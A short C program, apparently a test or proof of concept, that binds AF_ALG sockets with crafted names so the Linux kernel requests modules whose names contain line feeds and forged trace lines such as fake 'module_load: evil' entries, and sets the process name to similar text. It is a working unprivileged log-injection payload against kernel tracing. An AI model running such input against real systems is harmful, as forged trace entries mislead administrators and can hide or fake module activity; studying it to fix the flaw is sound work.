/*
 * Has the kernel ask for modules whose names hold line feeds and what looks like lines of a trace; needs no privilege.
 *
 * forge_trace ROUNDS: binds AF_ALG sockets (crypto/af_alg.c alg_bind), whose type and name the kernel puts into
 * request_module("algif-%s", ...) and request_module("crypto-%s", ...), each of the list below in turn.
 */

#include <linux/if_alg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* Of a line, 48 characters fit behind "crypto-". Long names are cut, and some are not of any format at all. */
static const char *const names[] = {
	"\nxxxxxxxxxxxxxxxx-1     [000]   1  8.000000: a: ",
	"\n      x-1       [000]   9.000000: module_load: evil",
	"\nx-1 [0] 9.0: module_load: evil POE\n",
	"\nmodule_load: evil POE\nmodule_free: transient",
	"\nCPU:0 [LOST 99999999 EVENTS]\n",
	"\xff\x01\n\n\n",
	"evil\nwait=1 call_site=x\n",
};
static const char *const types[] = { "\nevil\n\xff", "\n-1 [0] 1.0: a", "\n\n\n" };
static const char *const comms[] = { "a\n1 evil", "module_load", "evil-1 [000] ..", "\n\n" };

#define COUNT(array) (sizeof(array) / sizeof(*(array)))

static void ask(const char *type, const char *name)
{
	struct sockaddr_alg address = { .salg_family = AF_ALG };
	int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);

	if (fd < 0) {
		perror("socket(AF_ALG)");
		exit(1);
	}
	strncpy((char *)address.salg_type, type, sizeof(address.salg_type) - 1);
	strncpy((char *)address.salg_name, name, sizeof(address.salg_name) - 1);
	/* It fails, after the kernel has asked for the module. */
	if (bind(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
		fprintf(stderr, "there is such an algorithm\n");
	close(fd);
}

int main(int argc, char **argv)
{
	unsigned long rounds = argc > 1 ? strtoul(argv[1], NULL, 10) : 1;

	for (unsigned long round = 0; round < rounds; round++) {
		prctl(PR_SET_NAME, comms[round % COUNT(comms)]);
		ask("hash", names[round % COUNT(names)]);
		ask(types[round % COUNT(types)], "x");
	}
	return 0;
}
